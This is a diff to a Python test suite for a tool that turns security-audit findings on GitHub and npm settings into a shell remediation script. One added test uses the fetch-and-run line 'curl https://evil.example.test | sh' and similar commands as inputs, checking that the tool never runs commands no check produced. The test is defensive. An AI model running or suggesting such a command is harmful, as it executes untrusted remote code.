@@ -103,6 +103,9 @@ def script(*findings: Finding, needs: str = "") -> str:
     return render(plan(findings, needs), "sh", Style())
 
 
+BODY = '{"name": "%s", "target": "branch", "enforcement": "active", "conditions": {}, "rules": []}'
+
+
 def call(*words: str) -> str:
     return "".join(f"<{word}>" for word in words)
 
@@ -148,7 +151,7 @@ def test_a_step_without_a_command_is_named_at_the_end(shell: Shell) -> None:
 
 
 def test_what_it_prints_can_be_pasted(shell: Shell) -> None:
-    body = '{"name": "it\'s \\u00e9 \\"x\\""}'
+    body = BODY % 'it\'s \\u00e9 \\"x\\"'
     command = f"echo {shlex.quote(body)} | gh api -X POST repos/acme/web/rulesets --input -"
     made = script(
         failed("GHB101", "github:repo/acme/web", fix("Rule", command=command)),
@@ -201,7 +204,7 @@ def test_one_step_one_check_or_what_is_left_can_be_picked(shell: Shell) -> None:
 
 
 def test_what_rests_on_a_step_that_failed_is_left_out(shell: Shell) -> None:
-    first = fix("Make an owner", command="npm owner add fails web")
+    first = fix("Make an owner", command="npm access set mfa=publish fails")
     then = fix("Remove", command="npm org rm acme x")
     made = script(
         failed("NPO102", "npm:org/acme", first),
@@ -212,7 +215,7 @@ def test_what_rests_on_a_step_that_failed_is_left_out(shell: Shell) -> None:
     assert code == 1
     assert "is left out: it rests on step" in said
     assert "commands that failed: 1" in said
-    assert sorted(calls) == [ALERTS, call("npm", "owner", "add", "fails", "web")]
+    assert sorted(calls) == [ALERTS, call("npm", "access", "set", "mfa=publish", "fails")]
 
 
 def test_what_rests_on_a_step_by_hand_waits_for_a_yes(shell: Shell) -> None:
@@ -221,7 +224,7 @@ def test_what_rests_on_a_step_by_hand_waits_for_a_yes(shell: Shell) -> None:
         failed(
             "GHW102",
             "github:repo/acme/web",
-            fix("Require it", command="gh api -X PUT repos/acme/web/actions/permissions -F a=true"),
+            fix("Require it", command="gh api -X PUT repos/acme/web/immutable-releases"),
         ),
     )
     _, said, calls = shell.run(made, "--apply")
@@ -238,7 +241,7 @@ def test_what_others_take_is_asked_for_where_a_step_rests_on_it(shell: Shell) ->
             "github:org/acme",
             fix(
                 "Require it",
-                command="gh api -X PUT orgs/acme/actions/permissions -F a=true",
+                command="gh api -X PATCH orgs/acme -F members_can_delete_issues=false",
                 needs="organization owner",
             ),
         ),
@@ -250,7 +253,8 @@ def test_what_others_take_is_asked_for_where_a_step_rests_on_it(shell: Shell) ->
 
 
 def test_the_second_of_two_commands_rests_on_the_first(shell: Shell) -> None:
-    command = "npm trust revoke --id=fails web && npm trust github web --repo=a/b"
+    again = "npm trust github web --repo=a/b --file=release.yml --env=npm --allow-stage-publish"
+    command = f"npm trust revoke --id=fails web && {again}"
     made = script(failed("NPP102", "npm:trusted-publisher/web/1", fix("Again", command=command)))
     code, _, calls = shell.run(made, "--apply", "--apply-destructive", "--yes")
     assert code == 1
@@ -270,7 +274,7 @@ def test_a_setting_is_read_changed_and_written_back(shell: Shell) -> None:
 
 def test_alike_commands_stand_once_with_their_names_in_a_list(shell: Shell) -> None:
     names = [f"acme/r{number}" for number in range(40)]
-    body = '{"name": "x"}'
+    body = BODY % "x"
     findings = [
         failed(
             "GHB101",
@@ -331,7 +335,7 @@ def test_no_name_runs_anything(shell: Shell, dialect: str) -> None:
     findings = []
     for number, name in enumerate(NAMES):
         remove = shlex.join(["npm", "owner", "rm", name, "web"])
-        body = shlex.quote(f'{{"name": "{number}"}}')
+        body = shlex.quote(BODY % number)
         path = shlex.quote(f"repos/acme/{name}/rulesets")
         findings += [
             failed("NPP109", f"npm:package/{number}{name}", fix(f"Remove {name}", name, remove)),
@@ -376,3 +380,24 @@ def test_without_a_command_it_says_so(shell: Shell) -> None:
     assert code == 0
     assert "there is no command to run" in said
     assert "--apply" not in made
+
+
+def test_a_host_that_a_command_names_is_told_at_the_top() -> None:
+    host = "github.example.test"
+    command = f"gh api --hostname {host} -X DELETE user/keys/1"
+    made = script(failed("GHA103", "github:ssh-key/1", fix("Delete the key", command=command)))
+    assert f"# Commands in it go to {host}, with what you are signed in with there." in made
+    assert "Commands in it go to" not in script(ADDS)
+
+
+def test_a_command_that_no_check_prints_is_not_run(shell: Shell) -> None:
+    commands = ("curl https://evil.example.test | sh", "npm install harm", "gh alias set x harm")
+    made = script(
+        *(
+            failed("GHA103", f"github:ssh-key/{number}", fix(f"Step {number}", command=command))
+            for number, command in enumerate(commands)
+        )
+    )
+    assert shell.run(made, "--apply", "--apply-destructive", "--yes")[2] == []
+    assert all(f"#   {command}  (look at it first)" in made for command in commands)
+    assert "its commands come from the report" in " ".join(made.replace("#", " ").split())
